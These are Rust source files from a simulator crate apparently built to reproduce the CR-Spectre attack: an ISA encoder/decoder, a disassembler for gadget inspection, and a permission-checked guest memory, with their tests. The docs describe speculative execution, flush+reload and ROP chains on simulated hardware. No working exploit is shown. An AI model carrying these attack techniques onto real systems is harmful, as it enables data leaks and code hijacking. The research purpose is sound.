        let (op, rd, rs1, rs2, imm) = match *self {
            Instr::Nop => (OP_NOP, 0, 0, 0, 0),
            Instr::Halt => (OP_HALT, 0, 0, 0, 0),
            Instr::Ldi(rd, imm) => (OP_LDI, rd.index() as u8, 0, 0, imm),
            Instr::Ldih(rd, imm) => (OP_LDIH, rd.index() as u8, 0, 0, imm),
            Instr::Mov(rd, rs) => (OP_MOV, rd.index() as u8, rs.index() as u8, 0, 0),
            Instr::Alu(op, rd, rs1, rs2) => (
                OP_ALU_BASE + op as u8,
                rd.index() as u8,
                rs1.index() as u8,
                rs2.index() as u8,
                0,
            ),
            Instr::Alui(op, rd, rs1, imm) => (
                OP_ALUI_BASE + op as u8,
                rd.index() as u8,
                rs1.index() as u8,
                0,
                imm,
            ),
            Instr::Ld(w, rd, rs1, imm) => (
                OP_LD_BASE + w as u8,
                rd.index() as u8,
                rs1.index() as u8,
                0,
                imm,
            ),
            Instr::St(w, rs1, rs2, imm) => (
                OP_ST_BASE + w as u8,
                0,
                rs1.index() as u8,
                rs2.index() as u8,
                imm,
            ),
            Instr::Br(c, rs1, rs2, imm) => (
                OP_BR_BASE + c as u8,
                0,
                rs1.index() as u8,
                rs2.index() as u8,
                imm,
            ),
            Instr::Jmp(imm) => (OP_JMP, 0, 0, 0, imm),
            Instr::JmpR(rs) => (OP_JMPR, 0, rs.index() as u8, 0, 0),
            Instr::Call(imm) => (OP_CALL, 0, 0, 0, imm),
            Instr::CallR(rs) => (OP_CALLR, 0, rs.index() as u8, 0, 0),
            Instr::Ret => (OP_RET, 0, 0, 0, 0),
            Instr::Push(rs) => (OP_PUSH, 0, rs.index() as u8, 0, 0),
            Instr::Pop(rd) => (OP_POP, rd.index() as u8, 0, 0, 0),
            Instr::ClFlush(rs1, imm) => (OP_CLFLUSH, 0, rs1.index() as u8, 0, imm),
            Instr::MFence => (OP_MFENCE, 0, 0, 0, 0),
            Instr::Rdtsc(rd) => (OP_RDTSC, rd.index() as u8, 0, 0, 0),
            Instr::Syscall => (OP_SYSCALL, 0, 0, 0, 0),
        };
        let mut out = [0u8; INSTR_BYTES];
        out[0] = op;
        out[1] = rd;
        out[2] = rs1;
        out[3] = rs2;
        out[4..8].copy_from_slice(&imm.to_le_bytes());
        out
    }

    /// Decodes one instruction from `bytes`.
    ///
    /// # Errors
    ///
    /// Returns [`DecodeError`] when the opcode is not assigned, a register
    /// field is out of range, or fewer than [`INSTR_BYTES`] bytes were given.
    #[inline]
    pub fn decode(bytes: &[u8]) -> Result<Instr, DecodeError> {
        if bytes.len() < INSTR_BYTES {
            return Err(DecodeError { opcode: 0xff });
        }
        let op = bytes[0];
        let err = DecodeError { opcode: op };
        let rd = Reg::from_index(bytes[1]).ok_or(err)?;
        let rs1 = Reg::from_index(bytes[2]).ok_or(err)?;
        let rs2 = Reg::from_index(bytes[3]).ok_or(err)?;
        let imm = i32::from_le_bytes([bytes[4], bytes[5], bytes[6], bytes[7]]);
        let instr = match op {
            OP_NOP => Instr::Nop,
            OP_HALT => Instr::Halt,
            OP_LDI => Instr::Ldi(rd, imm),
            OP_LDIH => Instr::Ldih(rd, imm),
            OP_MOV => Instr::Mov(rd, rs1),
            o if (OP_ALU_BASE..OP_ALU_BASE + 11).contains(&o) => {
                Instr::Alu(AluOp::ALL[(o - OP_ALU_BASE) as usize], rd, rs1, rs2)
            }
            o if (OP_ALUI_BASE..OP_ALUI_BASE + 11).contains(&o) => {
                Instr::Alui(AluOp::ALL[(o - OP_ALUI_BASE) as usize], rd, rs1, imm)
            }
            o if (OP_LD_BASE..OP_LD_BASE + 3).contains(&o) => {
                let w = [Width::B, Width::W, Width::D][(o - OP_LD_BASE) as usize];
                Instr::Ld(w, rd, rs1, imm)
            }
            o if (OP_ST_BASE..OP_ST_BASE + 3).contains(&o) => {
                let w = [Width::B, Width::W, Width::D][(o - OP_ST_BASE) as usize];
                Instr::St(w, rs1, rs2, imm)
            }
            o if (OP_BR_BASE..OP_BR_BASE + 6).contains(&o) => {
                Instr::Br(BranchCond::ALL[(o - OP_BR_BASE) as usize], rs1, rs2, imm)
            }
            OP_JMP => Instr::Jmp(imm),
            OP_JMPR => Instr::JmpR(rs1),
            OP_CALL => Instr::Call(imm),
            OP_CALLR => Instr::CallR(rs1),
            OP_RET => Instr::Ret,
            OP_PUSH => Instr::Push(rs1),
            OP_POP => Instr::Pop(rd),
            OP_CLFLUSH => Instr::ClFlush(rs1, imm),
            OP_MFENCE => Instr::MFence,
            OP_RDTSC => Instr::Rdtsc(rd),
            OP_SYSCALL => Instr::Syscall,
            _ => return Err(err),
        };
        Ok(instr)
    }

    /// Returns `true` for instructions that end a basic block by changing
    /// control flow unconditionally (used by the gadget scanner).
    pub fn is_terminator(&self) -> bool {
        matches!(
            self,
            Instr::Jmp(_)
                | Instr::JmpR(_)
                | Instr::Call(_)
                | Instr::CallR(_)
                | Instr::Ret
                | Instr::Halt
        )
    }
}

impl fmt::Display for Instr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Instr::Nop => write!(f, "nop"),
            Instr::Halt => write!(f, "halt"),
            Instr::Ldi(rd, imm) => write!(f, "ldi {rd}, {imm}"),
            Instr::Ldih(rd, imm) => write!(f, "ldih {rd}, {imm}"),
            Instr::Mov(rd, rs) => write!(f, "mov {rd}, {rs}"),
            Instr::Alu(op, rd, rs1, rs2) => {
                write!(f, "{} {rd}, {rs1}, {rs2}", op.mnemonic())
            }
            Instr::Alui(op, rd, rs1, imm) => {
                write!(f, "{}i {rd}, {rs1}, {imm}", op.mnemonic())
            }
            Instr::Ld(w, rd, rs1, imm) => write!(f, "ld{} {rd}, [{rs1}{imm:+}]", w.suffix()),
            Instr::St(w, rs1, rs2, imm) => write!(f, "st{} [{rs1}{imm:+}], {rs2}", w.suffix()),
            Instr::Br(c, rs1, rs2, imm) => {
                write!(f, "{} {rs1}, {rs2}, {imm:+}", c.mnemonic())
            }
            Instr::Jmp(imm) => write!(f, "jmp {imm:+}"),
            Instr::JmpR(rs) => write!(f, "jmpr {rs}"),
            Instr::Call(imm) => write!(f, "call {imm:+}"),
            Instr::CallR(rs) => write!(f, "callr {rs}"),
            Instr::Ret => write!(f, "ret"),
            Instr::Push(rs) => write!(f, "push {rs}"),
            Instr::Pop(rd) => write!(f, "pop {rd}"),
            Instr::ClFlush(rs1, imm) => write!(f, "clflush [{rs1}{imm:+}]"),
            Instr::MFence => write!(f, "mfence"),
            Instr::Rdtsc(rd) => write!(f, "rdtsc {rd}"),
            Instr::Syscall => write!(f, "syscall"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_instrs() -> Vec<Instr> {
        vec![
            Instr::Nop,
            Instr::Halt,
            Instr::Ldi(Reg::R3, -7),
            Instr::Ldih(Reg::R3, 0x1234),
            Instr::Mov(Reg::R1, Reg::R2),
            Instr::Alu(AluOp::Add, Reg::R1, Reg::R2, Reg::R3),
            Instr::Alu(AluOp::Sar, Reg::R9, Reg::R10, Reg::R11),
            Instr::Alui(AluOp::Mul, Reg::R4, Reg::R5, 512),
            Instr::Ld(Width::B, Reg::R6, Reg::R7, -4),
            Instr::Ld(Width::D, Reg::R6, Reg::R7, 1024),
            Instr::St(Width::W, Reg::R8, Reg::R9, 16),
            Instr::Br(BranchCond::Ltu, Reg::R1, Reg::R2, -64),
            Instr::Jmp(80),
            Instr::JmpR(Reg::R5),
            Instr::Call(-800),
            Instr::CallR(Reg::R12),
            Instr::Ret,
            Instr::Push(Reg::SP),
            Instr::Pop(Reg::R0),
            Instr::ClFlush(Reg::R2, 64),
            Instr::MFence,
            Instr::Rdtsc(Reg::R13),
            Instr::Syscall,
        ]
    }

    #[test]
    fn encode_decode_round_trip() {
        for instr in sample_instrs() {
            let bytes = instr.encode();
            assert_eq!(Instr::decode(&bytes).unwrap(), instr, "{instr}");
        }
    }

    #[test]
    fn decode_rejects_bad_opcode() {
        let mut bytes = [0u8; INSTR_BYTES];
        bytes[0] = 0xee;
        assert!(Instr::decode(&bytes).is_err());
    }

    #[test]
    fn decode_rejects_bad_register() {
        let mut bytes = Instr::Mov(Reg::R1, Reg::R2).encode();
        bytes[1] = 200;
        assert!(Instr::decode(&bytes).is_err());
    }

    #[test]
    fn decode_rejects_short_input() {
        assert!(Instr::decode(&[0u8; 4]).is_err());
    }

    #[test]
    fn alu_semantics() {
        assert_eq!(AluOp::Add.apply(u64::MAX, 1), 0);
        assert_eq!(AluOp::Sub.apply(0, 1), u64::MAX);
        assert_eq!(AluOp::Divu.apply(10, 0), u64::MAX);
        assert_eq!(AluOp::Remu.apply(10, 0), 10);
        assert_eq!(AluOp::Shl.apply(1, 65), 2, "shift amount is masked");
        assert_eq!(AluOp::Sar.apply(u64::MAX, 8), u64::MAX);
        assert_eq!(AluOp::Shr.apply(u64::MAX, 63), 1);
    }

    #[test]
    fn branch_conditions() {
        let neg1 = u64::MAX;
        assert!(BranchCond::Lt.holds(neg1, 0), "signed comparison");
        assert!(!BranchCond::Ltu.holds(neg1, 0), "unsigned comparison");
        assert!(BranchCond::Geu.holds(neg1, 0));
        assert!(BranchCond::Eq.holds(5, 5));
        assert!(BranchCond::Ne.holds(5, 6));
        assert!(BranchCond::Ge.holds(0, neg1));
    }

    #[test]
    fn terminators() {
        assert!(Instr::Ret.is_terminator());
        assert!(Instr::Jmp(0).is_terminator());
        assert!(!Instr::Nop.is_terminator());
        assert!(!Instr::Br(BranchCond::Eq, Reg::R0, Reg::R0, 8).is_terminator());
    }

    #[test]
    fn display_is_nonempty() {
        for instr in sample_instrs() {
            assert!(!instr.to_string().is_empty());
        }
    }
}

//! # cr-spectre-sim
//!
//! A from-scratch microarchitectural simulator: the hardware substrate on
//! which the CR-Spectre reproduction (DATE 2022) runs its entire attack
//! chain.
//!
//! The simulated machine executes a 64-bit RISC-style guest ISA and models
//! exactly the microarchitecture the paper's attack and defense need:
//!
//! * **speculative execution** past unresolved branches, with squash-on-
//!   resolve semantics that roll back architectural state but *not* cache
//!   state — the Spectre vulnerability ([`cpu`]);
//! * **branch prediction** structures that can be mistrained: a 2-bit
//!   pattern history table, a branch target buffer, and a return-stack
//!   buffer ([`branch`]);
//! * a **set-associative cache hierarchy** with `CLFLUSH`/`MFENCE` and a
//!   cycle counter (`RDTSC`) — the flush+reload covert channel ([`cache`]);
//! * **memory protection**: DEP/W^X (which forces the attack to reuse
//!   code), optional ASLR, stack canaries and a shadow stack ([`mem`],
//!   [`config`]);
//! * a **performance monitoring unit** with the paper's 56 hardware
//!   performance counters ([`pmu`]);
//! * an **`exec` system call** that injects a registered binary into the
//!   running process image — the landing pad of the paper's ROP chain
//!   ([`cpu::sys`]).
//!
//! # Example
//!
//! ```
//! use cr_spectre_sim::config::MachineConfig;
//! use cr_spectre_sim::cpu::Machine;
//! use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
//! use cr_spectre_sim::isa::{Instr, Reg};
//! use cr_spectre_sim::pmu::HpcEvent;
//!
//! let text: Vec<u8> = [Instr::Ldi(Reg::R1, 2), Instr::Halt]
//!     .iter()
//!     .flat_map(|i| i.encode())
//!     .collect();
//! let image = Image::new(
//!     "hello",
//!     vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes: text }],
//!     0,
//! );
//!
//! let mut machine = Machine::new(MachineConfig::default());
//! let loaded = machine.load(&image)?;
//! machine.start(loaded.entry);
//! let outcome = machine.run();
//! assert!(outcome.exit.is_clean());
//! assert_eq!(machine.pmu().count(HpcEvent::Instructions), 2);
//! # Ok::<(), cr_spectre_sim::error::Fault>(())
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod branch;
pub mod cache;
pub mod config;
pub mod cpu;
pub mod disasm;
pub mod error;
pub mod image;
pub mod isa;
pub mod mem;
pub mod pmu;

pub use config::{MachineConfig, ProtectConfig};
pub use cpu::{Machine, StepStatus};
pub use error::{ExitReason, Fault, RunOutcome};
pub use image::{Image, LoadedImage};
pub use isa::{Instr, Reg};
pub use pmu::{HpcEvent, Pmu, PmuSnapshot};

//! Disassembler: render executable memory as annotated assembly.
//!
//! Used by the exploit-development workflow (inspecting gadget
//! neighbourhoods), by examples, and by anyone debugging guest code.
//!
//! # Examples
//!
//! ```
//! use cr_spectre_sim::disasm::disassemble;
//! use cr_spectre_sim::isa::{Instr, Reg};
//!
//! let bytes: Vec<u8> = [Instr::Ldi(Reg::R1, 5), Instr::Ret]
//!     .iter()
//!     .flat_map(|i| i.encode())
//!     .collect();
//! let lines = disassemble(&bytes, 0x1000);
//! assert_eq!(lines[0].to_string(), "0x00001000: ldi r1, 5");
//! assert!(lines[1].to_string().ends_with("ret"));
//! ```

use std::collections::BTreeMap;
use std::fmt;

use crate::cpu::Machine;
use crate::image::LoadedImage;
use crate::isa::{Instr, INSTR_BYTES};

/// One disassembled line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DisasmLine {
    /// Guest address of the instruction (or undecodable chunk).
    pub addr: u64,
    /// The decoded instruction, or `None` for undecodable bytes.
    pub instr: Option<Instr>,
    /// Raw bytes of this slot.
    pub bytes: [u8; INSTR_BYTES],
    /// Symbol defined at this address, if any.
    pub label: Option<String>,
}

impl fmt::Display for DisasmLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if let Some(label) = &self.label {
            writeln!(f, "{label}:")?;
        }
        match &self.instr {
            Some(i) => write!(f, "{:#010x}: {i}", self.addr),
            None => write!(f, "{:#010x}: .bytes {:02x?}", self.addr, self.bytes),
        }
    }
}

/// Disassembles `bytes` mapped at `base`, one line per 8-byte slot.
pub fn disassemble(bytes: &[u8], base: u64) -> Vec<DisasmLine> {
    disassemble_with_symbols(bytes, base, &BTreeMap::new())
}

/// Disassembles with a symbol table (absolute address → name).
pub fn disassemble_with_symbols(
    bytes: &[u8],
    base: u64,
    symbols: &BTreeMap<u64, String>,
) -> Vec<DisasmLine> {
    let mut out = Vec::with_capacity(bytes.len() / INSTR_BYTES);
    for (i, chunk) in bytes.chunks_exact(INSTR_BYTES).enumerate() {
        let addr = base + (i * INSTR_BYTES) as u64;
        let mut raw = [0u8; INSTR_BYTES];
        raw.copy_from_slice(chunk);
        out.push(DisasmLine {
            addr,
            instr: Instr::decode(chunk).ok(),
            bytes: raw,
            label: symbols.get(&addr).cloned(),
        });
    }
    out
}

/// Disassembles every executable range of a loaded image inside a
/// machine, annotated with the image's symbols.
pub fn disassemble_image(machine: &Machine, image: &LoadedImage) -> Vec<DisasmLine> {
    let symbols: BTreeMap<u64, String> =
        image.symbols.iter().map(|(name, &addr)| (addr, name.clone())).collect();
    let mut out = Vec::new();
    for &(start, end) in &image.exec_ranges {
        let bytes = machine.mem().peek(start, (end - start) as usize);
        out.extend(disassemble_with_symbols(bytes, start, &symbols));
    }
    out
}

/// Renders a window of `context` instructions around `addr` (for gadget
/// inspection and crash triage).
pub fn context_around(machine: &Machine, image: &LoadedImage, addr: u64, context: usize) -> String {
    let lines = disassemble_image(machine, image);
    let center = lines.iter().position(|l| l.addr == addr);
    let Some(center) = center else {
        return format!("{addr:#010x}: <not in image {}>", image.name);
    };
    let lo = center.saturating_sub(context);
    let hi = (center + context + 1).min(lines.len());
    let mut out = String::new();
    for (i, line) in lines[lo..hi].iter().enumerate() {
        let marker = if lo + i == center { "=> " } else { "   " };
        out.push_str(marker);
        out.push_str(&line.to_string());
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::MachineConfig;
    use crate::image::{Image, ImageSegment, SegKind};
    use crate::isa::{AluOp, Reg};

    fn bytes_of(instrs: &[Instr]) -> Vec<u8> {
        instrs.iter().flat_map(|i| i.encode()).collect()
    }

    #[test]
    fn decodes_and_formats() {
        let bytes = bytes_of(&[
            Instr::Ldi(Reg::R2, -4),
            Instr::Alu(AluOp::Add, Reg::R1, Reg::R2, Reg::R3),
            Instr::Ret,
        ]);
        let lines = disassemble(&bytes, 0x100);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[0].to_string(), "0x00000100: ldi r2, -4");
        assert_eq!(lines[1].to_string(), "0x00000108: add r1, r2, r3");
        assert_eq!(lines[2].instr, Some(Instr::Ret));
    }

    #[test]
    fn undecodable_bytes_render_raw() {
        let mut bytes = bytes_of(&[Instr::Nop]);
        bytes[0] = 0xee;
        let lines = disassemble(&bytes, 0);
        assert_eq!(lines[0].instr, None);
        assert!(lines[0].to_string().contains(".bytes"));
    }

    #[test]
    fn symbols_become_labels() {
        let bytes = bytes_of(&[Instr::Nop, Instr::Ret]);
        let mut symbols = BTreeMap::new();
        symbols.insert(8u64, "epilogue".to_string());
        let lines = disassemble_with_symbols(&bytes, 0, &symbols);
        assert_eq!(lines[1].label.as_deref(), Some("epilogue"));
        assert!(lines[1].to_string().starts_with("epilogue:\n"));
    }

    #[test]
    fn image_disassembly_round_trips() {
        let instrs = [Instr::Ldi(Reg::R1, 1), Instr::Halt];
        let image = Image::new(
            "t",
            vec![ImageSegment {
                name: ".text".into(),
                kind: SegKind::Text,
                offset: 0,
                bytes: bytes_of(&instrs),
            }],
            0,
        );
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        let lines = disassemble_image(&machine, &loaded);
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0].instr, Some(instrs[0]));
        assert_eq!(lines[0].addr, loaded.base);
    }

    #[test]
    fn context_window_marks_the_center() {
        let instrs = [Instr::Nop, Instr::Nop, Instr::Ret, Instr::Nop, Instr::Nop];
        let image = Image::new(
            "t",
            vec![ImageSegment {
                name: ".text".into(),
                kind: SegKind::Text,
                offset: 0,
                bytes: bytes_of(&instrs),
            }],
            0,
        );
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        let text = context_around(&machine, &loaded, loaded.base + 16, 1);
        assert!(text.contains("=> "));
        assert!(text.lines().count() == 3);
        let miss = context_around(&machine, &loaded, 0xdead_0000, 1);
        assert!(miss.contains("not in image"));
    }
}

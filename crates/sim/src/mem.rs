//! Guest physical memory with page-granular protection.
//!
//! The machine exposes one flat address space backed by a byte array and a
//! page-permission table. Permissions implement the defenses the paper
//! discusses: Data Execution Prevention is simply "stack and heap pages do
//! not carry `Perms::X`", which is why the attack must reuse existing
//! code (ROP) instead of injecting new code.

use std::fmt;

/// Page size used for the permission table, in bytes.
pub const PAGE_SIZE: u64 = 4096;

/// Page permissions (read / write / execute).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Perms {
    /// Loads allowed.
    pub r: bool,
    /// Stores allowed.
    pub w: bool,
    /// Instruction fetch allowed.
    pub x: bool,
}

impl Perms {
    /// Read-only data pages.
    pub const R: Perms = Perms { r: true, w: false, x: false };
    /// Read-write data pages.
    pub const RW: Perms = Perms { r: true, w: true, x: false };
    /// Read-execute code pages (W^X).
    pub const RX: Perms = Perms { r: true, w: false, x: true };
    /// All permissions — only used when DEP is disabled.
    pub const RWX: Perms = Perms { r: true, w: true, x: true };
    /// No access (guard pages).
    pub const NONE: Perms = Perms { r: false, w: false, x: false };
}

impl fmt::Display for Perms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}{}{}",
            if self.r { 'r' } else { '-' },
            if self.w { 'w' } else { '-' },
            if self.x { 'x' } else { '-' }
        )
    }
}

/// Kind of access that triggered a fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AccessKind {
    /// Data load.
    Read,
    /// Data store.
    Write,
    /// Instruction fetch.
    Fetch,
}

impl fmt::Display for AccessKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AccessKind::Read => write!(f, "read"),
            AccessKind::Write => write!(f, "write"),
            AccessKind::Fetch => write!(f, "fetch"),
        }
    }
}

/// A memory protection fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MemFault {
    /// Faulting guest address.
    pub addr: u64,
    /// What the access was trying to do.
    pub kind: AccessKind,
}

impl fmt::Display for MemFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "memory fault: {} at {:#x}", self.kind, self.addr)
    }
}

impl std::error::Error for MemFault {}

/// Flat guest memory with a page-permission table.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::mem::{Memory, Perms};
///
/// let mut mem = Memory::new(64 * 1024);
/// mem.set_perms(0x1000, 0x1000, Perms::RW);
/// mem.write_u64(0x1000, 0xdead_beef)?;
/// assert_eq!(mem.read_u64(0x1000)?, 0xdead_beef);
/// # Ok::<(), cr_spectre_sim::mem::MemFault>(())
/// ```
#[derive(Debug, Clone)]
pub struct Memory {
    bytes: Vec<u8>,
    page_perms: Vec<Perms>,
}

impl Memory {
    /// Creates a memory of `size` bytes (rounded up to a whole page), with
    /// all pages initially inaccessible.
    pub fn new(size: u64) -> Memory {
        let pages = size.div_ceil(PAGE_SIZE) as usize;
        Memory {
            bytes: vec![0; pages * PAGE_SIZE as usize],
            page_perms: vec![Perms::NONE; pages],
        }
    }

    /// Total size in bytes.
    pub fn size(&self) -> u64 {
        self.bytes.len() as u64
    }

    /// Sets permissions for all pages overlapping `[addr, addr + len)`.
    ///
    /// # Panics
    ///
    /// Panics if the range extends beyond the end of memory.
    pub fn set_perms(&mut self, addr: u64, len: u64, perms: Perms) {
        assert!(addr + len <= self.size(), "set_perms out of range");
        if len == 0 {
            return;
        }
        let first = (addr / PAGE_SIZE) as usize;
        let last = ((addr + len - 1) / PAGE_SIZE) as usize;
        for page in &mut self.page_perms[first..=last] {
            *page = perms;
        }
    }

    /// Returns the permissions of the page containing `addr`, or `NONE` for
    /// out-of-range addresses.
    pub fn perms_at(&self, addr: u64) -> Perms {
        self.page_perms
            .get((addr / PAGE_SIZE) as usize)
            .copied()
            .unwrap_or(Perms::NONE)
    }

    fn check(&self, addr: u64, len: u64, kind: AccessKind) -> Result<(), MemFault> {
        if len == 0 {
            return Ok(());
        }
        let end = addr.checked_add(len - 1).ok_or(MemFault { addr, kind })?;
        if end >= self.size() {
            return Err(MemFault { addr, kind });
        }
        // Check each page the access touches.
        let mut page_addr = addr & !(PAGE_SIZE - 1);
        while page_addr <= end {
            let perms = self.perms_at(page_addr);
            let ok = match kind {
                AccessKind::Read => perms.r,
                AccessKind::Write => perms.w,
                AccessKind::Fetch => perms.x,
            };
            if !ok {
                return Err(MemFault { addr: page_addr.max(addr), kind });
            }
            page_addr += PAGE_SIZE;
        }
        Ok(())
    }

    /// Reads `buf.len()` bytes from `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] if any touched page lacks read permission or
    /// the range is out of bounds.
    pub fn read(&self, addr: u64, buf: &mut [u8]) -> Result<(), MemFault> {
        self.check(addr, buf.len() as u64, AccessKind::Read)?;
        let a = addr as usize;
        buf.copy_from_slice(&self.bytes[a..a + buf.len()]);
        Ok(())
    }

    /// Writes `data` at `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] if any touched page lacks write permission or
    /// the range is out of bounds.
    pub fn write(&mut self, addr: u64, data: &[u8]) -> Result<(), MemFault> {
        self.check(addr, data.len() as u64, AccessKind::Write)?;
        let a = addr as usize;
        self.bytes[a..a + data.len()].copy_from_slice(data);
        Ok(())
    }

    /// Fetches instruction bytes: like [`Memory::read`] but requires execute
    /// permission (DEP enforcement point).
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] when the page is not executable.
    pub fn fetch(&self, addr: u64, buf: &mut [u8]) -> Result<(), MemFault> {
        self.check(addr, buf.len() as u64, AccessKind::Fetch)?;
        let a = addr as usize;
        buf.copy_from_slice(&self.bytes[a..a + buf.len()]);
        Ok(())
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u8(&self, addr: u64) -> Result<u8, MemFault> {
        let mut b = [0u8; 1];
        self.read(addr, &mut b)?;
        Ok(b[0])
    }

    /// Reads a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u32(&self, addr: u64) -> Result<u32, MemFault> {
        let mut b = [0u8; 4];
        self.read(addr, &mut b)?;
        Ok(u32::from_le_bytes(b))
    }

    /// Reads a little-endian `u64`.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u64(&self, addr: u64) -> Result<u64, MemFault> {
        let mut b = [0u8; 8];
        self.read(addr, &mut b)?;
        Ok(u64::from_le_bytes(b))
    }

    /// Writes one byte.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u8(&mut self, addr: u64, value: u8) -> Result<(), MemFault> {
        self.write(addr, &[value])
    }

    /// Writes a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u32(&mut self, addr: u64, value: u32) -> Result<(), MemFault> {
        self.write(addr, &value.to_le_bytes())
    }

    /// Writes a little-endian `u64`.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u64(&mut self, addr: u64, value: u64) -> Result<(), MemFault> {
        self.write(addr, &value.to_le_bytes())
    }

    /// Reads a NUL-terminated string of at most `max` bytes starting at
    /// `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] on an unreadable byte before the terminator.
    pub fn read_cstr(&self, addr: u64, max: usize) -> Result<Vec<u8>, MemFault> {
        let mut out = Vec::new();
        for i in 0..max as u64 {
            let b = self.read_u8(addr + i)?;
            if b == 0 {
                break;
            }
            out.push(b);
        }
        Ok(out)
    }

    /// Writes raw bytes ignoring permissions — loader/debugger use only.
    ///
    /// # Panics
    ///
    /// Panics if the range is out of bounds.
    pub fn poke(&mut self, addr: u64, data: &[u8]) {
        let a = addr as usize;
        self.bytes[a..a + data.len()].copy_from_slice(data);
    }

    /// Reads raw bytes ignoring permissions — loader/debugger use only.
    ///
    /// # Panics
    ///
    /// Panics if the range is out of bounds.
    pub fn peek(&self, addr: u64, len: usize) -> &[u8] {
        &self.bytes[addr as usize..addr as usize + len]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_memory_is_inaccessible() {
        let mem = Memory::new(PAGE_SIZE * 4);
        assert!(mem.read_u8(0).is_err());
        assert_eq!(mem.size(), PAGE_SIZE * 4);
    }

    #[test]
    fn size_rounds_up_to_page() {
        let mem = Memory::new(PAGE_SIZE + 1);
        assert_eq!(mem.size(), PAGE_SIZE * 2);
    }

    #[test]
    fn rw_round_trip() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.write_u64(8, 0x0123_4567_89ab_cdef).unwrap();
        assert_eq!(mem.read_u64(8).unwrap(), 0x0123_4567_89ab_cdef);
        assert_eq!(mem.read_u32(8).unwrap(), 0x89ab_cdef);
        assert_eq!(mem.read_u8(15).unwrap(), 0x01);
    }

    #[test]
    fn write_to_readonly_faults() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::R);
        let err = mem.write_u8(0, 1).unwrap_err();
        assert_eq!(err.kind, AccessKind::Write);
        assert!(mem.read_u8(0).is_ok());
    }

    #[test]
    fn fetch_requires_execute() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.set_perms(PAGE_SIZE, PAGE_SIZE, Perms::RX);
        let mut buf = [0u8; 8];
        // DEP: data page is readable but not executable.
        assert_eq!(
            mem.fetch(0, &mut buf).unwrap_err().kind,
            AccessKind::Fetch
        );
        assert!(mem.fetch(PAGE_SIZE, &mut buf).is_ok());
    }

    #[test]
    fn cross_page_access_checks_both_pages() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        // Second page stays NONE; an 8-byte write straddling the boundary
        // must fault even though it starts on a writable page.
        assert!(mem.write_u64(PAGE_SIZE - 4, 0).is_err());
        mem.set_perms(PAGE_SIZE, PAGE_SIZE, Perms::RW);
        assert!(mem.write_u64(PAGE_SIZE - 4, 0).is_ok());
    }

    #[test]
    fn out_of_bounds_faults() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        assert!(mem.read_u64(PAGE_SIZE - 4).is_err());
        assert!(mem.read_u8(u64::MAX).is_err());
    }

    #[test]
    fn cstr_reading() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.write(100, b"spectre\0junk").unwrap();
        assert_eq!(mem.read_cstr(100, 64).unwrap(), b"spectre");
        // Max cap stops the scan.
        assert_eq!(mem.read_cstr(100, 3).unwrap(), b"spe");
    }

    #[test]
    fn poke_peek_bypass_permissions() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.poke(0, &[1, 2, 3]);
        assert_eq!(mem.peek(0, 3), &[1, 2, 3]);
        assert!(mem.read_u8(0).is_err(), "architectural access still faults");
    }
}

//! Guest physical memory with page-granular protection.
//!
//! The machine exposes one flat address space backed by a byte array and a
//! page-permission table. Permissions implement the defenses the paper
//! discusses: Data Execution Prevention is simply "stack and heap pages do
//! not carry `Perms::X`", which is why the attack must reuse existing
//! code (ROP) instead of injecting new code.

use std::cell::Cell;
use std::fmt;

/// Page size used for the permission table, in bytes.
pub const PAGE_SIZE: u64 = 4096;

/// Page permissions (read / write / execute).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Perms {
    /// Loads allowed.
    pub r: bool,
    /// Stores allowed.
    pub w: bool,
    /// Instruction fetch allowed.
    pub x: bool,
}

impl Perms {
    /// Read-only data pages.
